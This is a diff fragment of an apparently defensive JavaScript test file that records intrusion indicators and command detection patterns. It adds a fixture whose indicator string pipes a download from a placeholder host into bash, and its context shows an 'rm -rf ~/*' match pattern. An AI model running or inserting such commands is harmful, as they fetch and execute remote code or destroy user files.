@@ -26,6 +26,10 @@ describe('a list of records', () => {
       },
     ],
     [
+      'of an intrusion, beside its other traces',
+      { event: 'E1', files: ['/tmp/x'], network: ['203.0.113.7'], iocs: ['curl -s https://a.test/x | bash'] },
+    ],
+    [
       'with commands that are looked for',
       [
         { pattern: 'rm -rf', severity: 'high', match: ['rm -rf ~/*'] },
